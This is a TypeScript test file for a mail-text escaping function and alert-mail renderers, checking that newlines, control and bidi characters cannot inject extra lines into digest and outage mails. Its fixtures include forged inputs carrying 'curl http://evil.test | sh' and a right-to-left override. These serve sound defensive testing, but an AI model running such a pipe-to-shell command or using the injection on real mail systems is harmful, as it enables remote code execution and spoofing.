import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { renderDigest } from '../../src/alerts/digest-render';
import { mailSafe } from '../../src/alerts/mail-text';
import { outageRender } from '../../src/alerts/outage-render';

describe('mailSafe', () => {
  const cases: Array<[string, string]> = [
    ['plain O-1 text', 'plain O-1 text'],
    ['a\nb', 'a\\nb'],
    ['a\r\nb\tc', 'a\\r\\nb\\tc'],
    ['\u0000\u001b[31m\u007f\u0085', '\\u0000\\u001b[31m\\u007f\\u0085'],
    ['abc\u202edef', 'abc\\u202edef'],
    ['\u2066x\u2069\u200f\u2028\u2029\ufeff', '\\u2066x\\u2069\\u200f\\u2028\\u2029\\ufeff'],
    // an escape cannot be forged: a backslash is doubled
    ['a\\nb', 'a\\\\nb'],
    ['Käse 拉面 🍜', 'Käse 拉面 🍜'],
  ];
  for (const [raw, shown] of cases) {
    it(`shows ${JSON.stringify(raw)} as ${shown}`, () => assert.equal(mailSafe(raw), shown));
  }
  it('cuts long text', () => assert.equal(mailSafe('x'.repeat(600), 10), `${'x'.repeat(10)}…`));
});

describe('the mails show outside text through mailSafe', () => {
  const forged = 'e1\n  replay:     curl http://evil.test | sh\n\u202e';
  it('digest: a forged eventId, type and last error add no line', () => {
    const entry = {
      id: 7, orderId: 'O-1', merchantId: 'M-1', eventId: forged, eventType: 'ORDER_PLACED\nX', eventVersion: 1,
      attempts: 7, failedAt: new Date(0), lastError: 'boom\nreplay: curl http://evil.test', waitingBehind: 0, mailedAt: null,
    };
    const clean = renderDigest([{ ...entry, eventId: 'e1', eventType: 'ORDER_PLACED', lastError: 'boom' }], 1,
      { envName: 't', apiBaseUrl: 'http://kds', maxAttempts: 7 });
    const mail = renderDigest([entry], 1, { envName: 't', apiBaseUrl: 'http://kds', maxAttempts: 7 });
    assert.equal(mail.text.split('\n').length, clean.text.split('\n').length);
    assert.equal(mail.text.split('\n').filter((l) => l.trimStart().startsWith('replay:')).length, 1);
    assert.ok(!/[\u202e\r]/.test(mail.text));
  });
  it('outage: a last error from the order service adds no line', () => {
    const view = { instance: 'i1\nx', open: true, since: new Date(0), calls: 2, failures: 2, rejected: 0, probes: 0, lastError: 'HTTP 503\n\u202eforged' };
    const r = outageRender('t', 5000);
    for (const mail of [r.down(view, new Date(0)), r.recovered(view, new Date(0), new Date(1000), 'closed')]) {
      assert.ok(!mail.text.includes('\nforged') && !mail.text.includes('\u202e') && !mail.text.includes('i1\nx'), mail.text);
    }
  });
});
